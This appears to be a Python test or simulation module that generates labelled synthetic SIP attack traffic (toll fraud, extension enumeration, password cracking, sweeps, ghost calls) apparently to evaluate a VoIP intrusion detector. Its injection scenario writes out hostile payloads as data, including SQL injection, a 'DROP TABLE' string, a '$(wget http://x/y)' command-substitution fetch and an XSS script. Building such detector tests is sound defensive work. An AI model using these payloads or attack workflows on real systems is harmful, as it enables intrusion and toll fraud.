def toll(s, agent="sipcli/v1.8", refuse=None, gap=0.4, prefixes=PREFIXES, tails=("972599123456",), account=None, guests=False, silent=False):
    pbx = pbx_of(s, guests=guests, numbers=("900972", "9011972", "00972") if account or guests else ())
    if refuse:
        pbx.take = lambda at, src, r: None if r.method == "ACK" else pbx._reply(at + 0.004, src, r, *refuse)
    if silent:
        pbx.send = lambda *a, **k: None
    thief, at = Dialler(s, "203.0.113.80", agent=agent), 1.0
    for tail in tails:
        for prefix in prefixes:
            thief.dial(at, pbx, prefix + tail, account)
            at += gap
    return {"203.0.113.80": TOLL}


@attack("toll-registered-account")
@attack("toll-registered-account-fixed-prefix", prefixes=["00"], tails=[f"9725991{n:05d}" for n in range(40)], optional=True)
def toll_registered(s, prefixes=PREFIXES, tails=("972599123456",), optional=False):
    """A stolen password: the thief registers like a phone, then walks through prefixes."""
    pbx = pbx_of(s, numbers=("900972", "9011972", "00972"))
    thief = Stack(s, "zoiper", "203.0.113.81", "1000")
    thief.register(1, pbx, "1234")
    at = 3.0
    for tail in tails:
        for prefix in prefixes:
            thief.call(at, pbx, prefix + tail, "1234", talk=50)
            at += 5
    return {} if optional else {"203.0.113.81": TOLL + ",(breach)"}


@attack("chain-war-crack-toll")
def chain(s):
    """The whole way: extensions, password, calls."""
    pbx = pbx_of(s, numbers=("900972", "00972"))
    tool = SipVicious(s, "203.0.113.82")
    at = tool.war(1.0, pbx, range(990, 1010))
    at, guess = tool.crack(at + 5, pbx, "1000", [str(n) for n in range(1180, 1300)])
    thief = Dialler(s, "203.0.113.82")
    for n, prefix in enumerate(PREFIXES):
        thief.dial(at + 20 + n * 6, pbx, prefix + "972599123456", ("1000", guess))
    return {"203.0.113.82": "probe,enumerate,crack,breach,toll-fraud,(flood),(ghost-call)"}


@attack("chain-calls-from-elsewhere")
def chain_elsewhere(s):
    """One address finds the password, another makes the calls with it."""
    pbx = pbx_of(s, numbers=("900972", "00972"))
    at, guess = SipVicious(s, "203.0.113.83").crack(1, pbx, "1000", [str(n) for n in range(1180, 1300)])
    thief = Dialler(s, "203.0.113.84")
    for n, prefix in enumerate(PREFIXES):
        thief.dial(at + 200 + n * 6, pbx, prefix + "972599123456", ("1000", guess))
    return {"203.0.113.83": BREACH, "203.0.113.84": TOLL + ",(breach)"}


# --- inside honest traffic -------------------------------------------------------------------------------------------------

def office(s, at, count=20, address="192.0.2.11", minutes=3):
    pbx = Pbx(s, "198.51.100.11", {str(2100 + n): f"pw{n}" for n in range(count)}, numbers=("0", "21"))
    kinds = list(AGENTS)
    phones = [Phone(s, f"192.168.1.{10 + n}", str(2100 + n), f"pw{n}", kinds[n % len(kinds)], seen_as=(address, 20000 + n)) for n in range(count)]
    for n, phone in enumerate(phones):
        phone.register(at + n * 0.2, pbx)
        phone.register(at + 60 + n * 0.2, pbx, forget=False)
        if n % 3 == 0:
            phone.call(at + 10 + n * 4, pbx, f"0{s.digits(9, 10)}", talk=30)
    for turn in range(minutes):
        qualify(s, at + 20 + turn * 60, pbx, [p.seen_as for p in phones])
    return pbx, phones


@attack("mix-svmap", do="map")
@attack("mix-svwar", do="war")
@attack("mix-rcrack", do="rcrack")
@attack("mix-toll", do="toll")
@attack("mix-random-sweep", do="random")
@attack("mix-attacker-behind-the-office", do="inside")
def mix(s, do):
    pbx, phones = office(s, 1)
    agent, who = "Yealink SIP-T46S 66.86.0.15", "203.0.113.90"
    live = everybody(s)
    live["198.51.100.11"] = pbx.take
    if do == "map":
        SipVicious(s, who, agent=agent).map(30, NETWORK, answers={a: live[a] for a in LIVE if a in live and False})
        return {who: "(probe),sweep"}
    if do == "war":
        SipVicious(s, who, agent=agent).war(30, pbx, range(2090, 2140))
        return {who: ENUM}
    if do == "rcrack":
        SipPts(s, who, agent).crack(30, pbx, "2105", [str(n) for n in range(60)])
        return {who: CRACK}
    if do == "toll":
        thief = Dialler(s, who, agent=agent)
        for n, prefix in enumerate(PREFIXES):
            thief.dial(30 + n * 3, pbx, prefix + "972599123456")
        return {who: TOLL}
    if do == "inside":
        SipVicious(s, "192.0.2.11", 31000, agent=agent).war(30, pbx, range(2090, 2140))
        return {}  # spared: twenty honest phones share its address
    for n, target in enumerate(s.rng.sample(NETWORK, 60)):
        source = (who, s.rng.randint(20000, 60000))
        send(s, 30 + n, source, (target, 5060), random_probe(s, source, target), live)
    return {who: SWEEP}


# --- small and plain ones --------------------------------------------------------------------------------------------------

@attack("small-sweep-16", count=16)
@attack("small-sweep-12-shuffled", count=24, order="shuffle")
def small_sweep(s, count, order=None):
    live, targets = {a: t for a, t in everybody(s).items() if a in LIVE[:3]}, NETWORK[15:15 + count]
    if order:
        s.rng.shuffle(targets)
    for n, target in enumerate(targets):
        source = ("203.0.113.127", s.rng.randint(20000, 60000))
        send(s, 1 + n, source, (target, 5060), random_probe(s, source, target), live)
    return {"203.0.113.127": SWEEP}


@attack("plain-enumerate", kind="pjsip")
@attack("plain-enumerate-slow", kind="linphone", pace=600.0)
@attack("plain-enumerate-hardened", kind="zoiper", leaks=False)
@attack("plain-enumerate-options", kind="asterisk", method="OPTIONS")
@attack("plain-enumerate-invite", kind="zoiper", method="INVITE")
def plain_enumerate(s, kind, pace=0.5, leaks=True, method="REGISTER"):
    """No known grammar: only what it does."""
    pbx = pbx_of(s, leaks=leaks) if method == "REGISTER" else TargetPbx(s, PBX, ACCOUNTS, leaks=True)
    for n in range(40):
        user = str(90 + n)
        stack = Stack(s, kind, "203.0.113.128", user)
        request = stack.request(method, f"sip:{PBX}" if method == "REGISTER" else f"sip:{user}@{PBX}", user, PBX)
        s.say(1 + n * pace, stack.seen_as, pbx.at, request)
        pbx.take(1 + n * pace, stack.seen_as, request)
    return {"203.0.113.128": ENUM}


@attack("plain-enumerate-80-sources")
def plain_spread(s):
    pbx, sources = pbx_of(s), [f"192.0.2.{n}" for n in range(101, 181)]
    for n in range(320):
        user = str(4000 + n)
        stack = Stack(s, "pjsip", sources[n % 80], user)
        request = stack.request("REGISTER", f"sip:{PBX}", user, PBX)
        s.say(1 + n * 8, stack.seen_as, pbx.at, request)
        pbx.take(1 + n * 8, stack.seen_as, request)
    return dict.fromkeys(sources, ENUM)


@attack("plain-sweep-80-sources")
def plain_sweep_spread(s):
    sources, targets = [f"192.0.2.{n}" for n in range(101, 181)], list(NETWORK)
    s.rng.shuffle(targets)
    for n in range(80):
        stack, target = Stack(s, "spa", sources[n], "100"), targets[n % 64]
        s.say(1 + n * 8, stack.seen_as, (target, 5060), stack.request("OPTIONS", f"sip:100@{target}", "100", target))
    return dict.fromkeys(sources, SWEEP)


@attack("plain-crack", pace=0.3)
@attack("plain-crack-10s", pace=10.0)
@attack("plain-crack-one-call-id", pace=0.2, fresh=False)
@attack("plain-crack-success", pace=1.0, guesses=[f"x{n}" for n in range(30)] + ["1234"], user="1000", truth=BREACH)
@attack("plain-crack-10s-success", pace=10.0, guesses=[f"x{n}" for n in range(30)] + ["1234"], user="1000", truth=BREACH)
def plain_crack(s, pace, fresh=True, guesses=[f"x{n}" for n in range(60)], user="101", truth=CRACK):
    pbx, stack = pbx_of(s), Stack(s, "zoiper", "203.0.113.129", user)
    for n, guess in enumerate(guesses):
        stack.register(1 + n * pace, pbx, guess, fresh=fresh)
    return {"203.0.113.129": truth}


@attack("ghost-three", phones=LIVE[5:8], truth=RINGS)
@attack("ghost-random-caller", shuffled=True)
def plain_ghost(s, phones=LIVE, shuffled=False, truth=GHOST):
    live = phones_at(s)
    for n, phone in enumerate(s.rng.sample(phones, len(phones)) if shuffled else phones):
        stack = Stack(s, "pjsip", "203.0.113.130", s.digits(4, 11))
        request = stack.request("INVITE", f"sip:{phone}", "x", phone, body=sdp("203.0.113.130", 4000))
        send(s, 1 + n * 20, stack.seen_as, (phone, 5060), request, live)
    return {"203.0.113.130": truth}


@attack("sipsak-traceroute", truth="probe")
def trace(s, truth):
    for hops in range(2):
        port = s.rng.randint(33000, 60000)
        request = sipsak(s, "203.0.113.66", port, "OPTIONS", f"sip:100@{PBX}")
        request.fields = [("Max-Forwards", str(hops)) if f[0] == "Max-Forwards" else f for f in request.fields]
        s.say(1 + hops, ("203.0.113.66", port), (PBX, 5060), request)
        s.say(1.004 + hops, (PBX, 5060), ("203.0.113.66", port), answer(request, 200 if hops else 483, "OK" if hops else "Too Many Hops", to_tag="x"))
    return {"203.0.113.66": truth}


@attack("injection", truth="exploit,(probe),(enumerate)")
def injection(s, truth):
    pbx = pbx_of(s)
    for n, text in enumerate(["' or '1'='1' -- ", "1;DROP TABLE sip;--", "$(wget http://x/y)", "<script>alert(1)</script>", "%n%n%n%s%s"]):
        stack = Stack(s, "zoiper", "203.0.113.131", "100")
        request = stack.request("REGISTER", f"sip:{PBX}", "100", PBX)
        request.fields = [("From", f'"{text}" <sip:100@{PBX}>;tag=1') if f[0] == "From" else f for f in request.fields]
        s.say(1 + n, stack.seen_as, pbx.at, request)
        pbx.take(1 + n, stack.seen_as, request)
    return {"203.0.113.131": truth}
